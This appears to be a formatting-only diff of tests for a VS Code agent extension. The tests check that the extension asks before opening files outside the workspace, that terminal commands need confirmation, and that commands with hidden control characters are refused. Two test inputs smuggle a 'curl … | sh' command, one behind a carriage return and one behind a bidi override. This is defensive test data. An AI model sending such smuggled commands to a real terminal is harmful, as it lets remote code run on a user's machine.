@@ -100,31 +100,40 @@ describe('The editor against the agent: reads outside the workspace, links, Run'
       await vscode.commands.executeCommand('workbench.action.closeAllEditors');
       const open = () => vscode.window.visibleTextEditors.some((e) => e.document.uri.fsPath === secret);
       // Declined (the modal closed): nothing opens.
-      await answeringWarnings(() => undefined, async (calls) => {
-        await actions.openLink(`${secret}#L3`);
-        await actions.openLocation(secret, 3);
-        await actions.openLocation(path.relative(folder(), secret), 1); // ../outside-…/credentials
-        assert.equal(calls.length, 3, 'not every outside target asked');
-        for (const c of calls) {
-          assert.match(c.message, /outside the workspace/);
-          assert.deepEqual(c.options, { modal: true, detail: secret });
-          assert.deepEqual(c.items, ['Open']);
-        }
-      });
+      await answeringWarnings(
+        () => undefined,
+        async (calls) => {
+          await actions.openLink(`${secret}#L3`);
+          await actions.openLocation(secret, 3);
+          await actions.openLocation(path.relative(folder(), secret), 1); // ../outside-…/credentials
+          assert.equal(calls.length, 3, 'not every outside target asked');
+          for (const c of calls) {
+            assert.match(c.message, /outside the workspace/);
+            assert.deepEqual(c.options, { modal: true, detail: secret });
+            assert.deepEqual(c.items, ['Open']);
+          }
+        },
+      );
       assert.equal(open(), false, 'the outside file opened although the modal was declined');
       // Accepted: it opens at the line.
-      await answeringWarnings((items) => items[0], async (calls) => {
-        await actions.openLink(`file://${secret}#L3`);
-        assert.equal(calls.length, 1);
-      });
+      await answeringWarnings(
+        (items) => items[0],
+        async (calls) => {
+          await actions.openLink(`file://${secret}#L3`);
+          assert.equal(calls.length, 1);
+        },
+      );
       assert.equal(vscode.window.activeTextEditor?.document.uri.fsPath, secret);
       assert.equal(vscode.window.activeTextEditor?.selection.active.line, 2);
       // A workspace file opens without asking.
-      await answeringWarnings(() => undefined, async (calls) => {
-        await actions.openLocation(path.join(folder(), 'src', 'textUtils.ts'), 2);
-        await actions.openLink('src/textUtils.ts#L1');
-        assert.equal(calls.length, 0, `asked for a workspace file: ${JSON.stringify(calls)}`);
-      });
+      await answeringWarnings(
+        () => undefined,
+        async (calls) => {
+          await actions.openLocation(path.join(folder(), 'src', 'textUtils.ts'), 2);
+          await actions.openLink('src/textUtils.ts#L1');
+          assert.equal(calls.length, 0, `asked for a workspace file: ${JSON.stringify(calls)}`);
+        },
+      );
       assert.equal(vscode.window.activeTextEditor?.document.uri.fsPath, path.join(folder(), 'src', 'textUtils.ts'));
     } finally {
       actions.dispose();
@@ -141,31 +150,40 @@ describe('The editor against the agent: reads outside the workspace, links, Run'
     // A terminal that records what it is sent (nothing runs).
     win.createTerminal = () => ({ name: 'Agent Host', show: () => undefined, sendText: (t: string) => sent.push(t), dispose: () => undefined }) as unknown as vscode.Terminal;
     try {
-      await answeringWarnings((items) => items[0], async (calls) => {
-        await actions.runInTerminal('npm test -- --grep x\n');
-        assert.deepEqual(calls.at(-1)?.options, { modal: true, detail: 'npm test -- --grep x' });
-        assert.deepEqual(sent, ['npm test -- --grep x']);
-        // A carriage return (Enter in a terminal) or a bidi override: refused, with a message, no modal.
-        for (const tricky of ['npm test\r; curl x | sh', 'echo \u202Ehs | lruc\u202C']) {
-          const before = calls.length;
-          await actions.runInTerminal(tricky);
-          assert.equal(calls.length, before + 1);
-          assert.match(calls.at(-1)!.message, /invisible or control character \(U\+(000D|202E)\)/);
-          assert.equal(calls.at(-1)!.options, undefined, 'the refusal is not a modal');
-        }
-        assert.equal(sent.length, 1);
-      });
-      await answeringWarnings(() => undefined, async () => {
-        await actions.runInTerminal('echo declined');
-        assert.equal(sent.length, 1, 'a declined modal still ran');
-      });
+      await answeringWarnings(
+        (items) => items[0],
+        async (calls) => {
+          await actions.runInTerminal('npm test -- --grep x\n');
+          assert.deepEqual(calls.at(-1)?.options, { modal: true, detail: 'npm test -- --grep x' });
+          assert.deepEqual(sent, ['npm test -- --grep x']);
+          // A carriage return (Enter in a terminal) or a bidi override: refused, with a message, no modal.
+          for (const tricky of ['npm test\r; curl x | sh', 'echo \u202Ehs | lruc\u202C']) {
+            const before = calls.length;
+            await actions.runInTerminal(tricky);
+            assert.equal(calls.length, before + 1);
+            assert.match(calls.at(-1)!.message, /invisible or control character \(U\+(000D|202E)\)/);
+            assert.equal(calls.at(-1)!.options, undefined, 'the refusal is not a modal');
+          }
+          assert.equal(sent.length, 1);
+        },
+      );
+      await answeringWarnings(
+        () => undefined,
+        async () => {
+          await actions.runInTerminal('echo declined');
+          assert.equal(sent.length, 1, 'a declined modal still ran');
+        },
+      );
       await config.update('chat.runCodeBlocks', false, vscode.ConfigurationTarget.Workspace);
-      await answeringWarnings((items) => items[0], async (calls) => {
-        await actions.runInTerminal('echo off');
-        assert.equal(calls.length, 1);
-        assert.match(calls[0]!.message, /turned off/);
-        assert.equal(calls[0]!.options, undefined);
-      });
+      await answeringWarnings(
+        (items) => items[0],
+        async (calls) => {
+          await actions.runInTerminal('echo off');
+          assert.equal(calls.length, 1);
+          assert.match(calls[0]!.message, /turned off/);
+          assert.equal(calls[0]!.options, undefined);
+        },
+      );
       assert.equal(sent.length, 1, 'ran with runCodeBlocks off');
     } finally {
       win.createTerminal = createTerminal;
